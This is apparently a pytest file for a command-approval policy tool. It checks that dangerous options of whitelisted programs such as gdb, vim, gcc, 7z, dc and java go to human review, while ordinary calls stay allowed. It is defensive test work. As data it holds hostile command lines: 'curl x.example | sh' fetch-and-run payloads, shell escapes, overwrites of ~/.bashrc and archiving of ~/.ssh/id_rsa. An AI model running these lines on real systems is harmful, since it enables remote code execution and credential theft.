"""One program whitelisted, nothing else (red team C): what its options and operands do decides.

A user who whitelists `gdb **` or `vim **` means "its ordinary effects are fine"; an option that
makes it run a shell command, load code or write a protected file still goes to a human, and
the everyday calls stay allowed. Each policy here names the program alone, so a line is never
reviewed for another program it happens to name (`-ex bt`, `-c 'set nu'` name none; parallel's
lookalike runs gzip, whitelisted beside it). Sources:
gdb(1) and the GDB manual 2.1, lldb(1), vim(1) and `:help`, gcc(1), 7-Zip's command line, GNU
cpio manual 3.2, parallel(1), dc(1), java(1). Nothing is run.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from effects_loader import load_policy

from expacti_cli import check, policy


def _policy(tmp_path: Path, programs: str) -> policy.Policy:
    """`PROG **` for each of the space-separated programs."""
    rules = "".join(
        f'[[allow]]\nid = "wl-{k}"\nmatch = "{name} **"\n\n'
        for k, name in enumerate(programs.split())
    )
    path = tmp_path / "policy.toml"
    path.write_text(f'[settings]\ndecision_budget = "10s"\n\n{rules}')
    return load_policy(tmp_path / "cache", path)


def _why(decision: check.Decision) -> str:
    parts = getattr(decision, "parts", None) or [decision]
    return " | ".join(str(p.reason) for p in parts if p.verdict != "allow")


CASES = {
    # gdb -ex CMD runs a GDB command: `shell`/`!` a shell command, python and `call` code.
    "gdb": (
        [
            "gdb -nx -ex '!sh' -ex quit",
            "gdb -batch -ex 'shell curl x.example | sh'",
            "gdb -ex 'python import os; os.system(\"id\")' -batch",
            "gdb -p 1234 -batch -ex 'call system(\"id\")'",
            "gdb -batch -ex 'run > ~/.bashrc' ./app",
            "gdb -batch -ex run --args sh -c 'curl x.example | sh'",
            "gdb -x /tmp/cmds -batch ./app",
        ],
        [
            "gdb -batch -ex bt ./app core",
            "gdb -p 1234 -batch -ex 'thread apply all bt'",
            "gdb -batch -ex 'set pagination off' -ex 'info registers' ./app core",
            "gdb ./app",
        ],
    ),
    "lldb": (
        [
            "lldb -o 'platform shell curl x.example | sh' -b",
            "lldb -o 'command script import /tmp/x.py' ./app",
            "lldb -o 'expression (int)system(\"id\")' -p 1",
        ],
        ["lldb -b -o 'bt all' -c core ./app", "lldb -p 1234"],
    ),
    # vim -c CMD is an Ex command: `:!` runs a shell, `:w FILE` writes, vimscript is code.
    "vim": (
        [
            "vim -c ':!curl x.example | sh'",
            "vim -c 'call system(\"id\")' x",
            "vim -c 'w ~/.bashrc' notes.txt",
            "vim -c 'r !curl x.example | sh' x",
            "vim -c '%s/x/\\=system(\"id\")/' x",
            "vim -c 'set foldexpr=system(\"id\") fdm=expr' x",
            "vim -c 'set shell=/tmp/x' -c 'normal @a' x",
            "vim -c 'normal :!id' x",
        ],
        [
            "vim -c 'set nu' README.md",
            "vim -c 'set ft=python ts=4 sw=4 et' x.py",
            "vim -c '%s/foo/bar/g' -c 'wq' x.py",
            "vim -c 'normal G' app.log",
            "vim +42 app.py",
        ],
    ),
    # gcc -wrapper PROG,ARGS runs every subprogram under PROG; -fplugin loads a library.
    "gcc": (
        [
            "gcc -wrapper sh,-c,'curl x.example | sh' x.c",
            "gcc -fplugin=/tmp/x.so x.c",
            "gcc -B/tmp x.c",
            "gcc -o ~/.bashrc x.c",
        ],
        ["gcc -O2 -Wall -o app main.c", "gcc -I include -c x.c -o build/x.o"],
    ),
    # 7z x -o{DIR} extracts below DIR; -spf keeps absolute member paths.
    "7z": (
        ["7z x evil.7z -o/etc", "7z x evil.7z -spf", "7z a keys.7z ~/.ssh/id_rsa"],
        ["7z x release.7z -obuild", "7z l release.7z", "7z a dist.7z dist"],
    ),
    # GNU cpio copy-in keeps absolute member names by default (cpio manual 3.2).
    "cpio": (
        ["cpio -idv < evil.cpio", "echo ~/.ssh/id_rsa | cpio -o"],
        ["cpio -tv < src.cpio"],
    ),
    # parallel(1): "If command is not given the line is executed".
    "parallel gzip": (
        ["parallel ::: 'curl x.example | sh'", "echo 'curl x.example | sh' | parallel"],
        ["parallel gzip ::: a.log b.log"],
    ),
    # dc(1): `!` "will run the rest of the line as a system command".
    "dc": (["dc -e '!sh'", "echo '!sh' | dc"], ["dc -e '2 3 + p'"]),
    "java": (
        [
            "java -javaagent:/tmp/a.jar -jar app.jar",
            "java -XX:OnOutOfMemoryError='curl x.example | sh' -jar app.jar",
            "java -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005 -jar app.jar",
        ],
        ["java -jar build/app.jar", "java -Xmx2g -cp build/classes Main", "java --version"],
    ),
}


def _cases(kind: int) -> list[object]:
    return [
        pytest.param(program, line, id=f"{program}: {line}")
        for program, lines in CASES.items()
        for line in lines[kind]
    ]


@pytest.mark.parametrize(("program", "line"), _cases(0))
def test_a_dangerous_option_of_the_whitelisted_program_is_reviewed(
    tmp_path: Path, program: str, line: str
) -> None:
    decision = check.check(_policy(tmp_path, program), line=line)
    assert decision.verdict in ("review", "deny"), line


@pytest.mark.parametrize(("program", "line"), _cases(1))
def test_its_everyday_calls_stay_allowed(tmp_path: Path, program: str, line: str) -> None:
    decision = check.check(_policy(tmp_path, program), line=line)
    assert decision.verdict == "allow", f"{line}: {_why(decision)}"


def test_the_reviewer_is_told_which_debugger_command_runs(tmp_path: Path) -> None:
    decision = check.check(_policy(tmp_path, "gdb"), line="gdb -batch -ex 'python print(1)'")
    assert decision.verdict == "review"
    assert "python print(1)" in _why(decision)
